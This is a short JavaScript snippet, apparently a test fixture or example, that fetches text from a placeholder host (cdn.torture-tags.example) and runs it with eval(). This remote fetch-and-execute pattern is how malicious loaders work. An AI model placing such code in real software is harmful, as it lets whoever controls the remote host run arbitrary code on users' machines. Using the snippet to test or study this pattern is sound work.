fetch("https://cdn.torture-tags.example/evaluated.txt")
  .then(function (answer) {
    return answer.text();
  })
  .then(function run(text) {
    eval(text);
  });
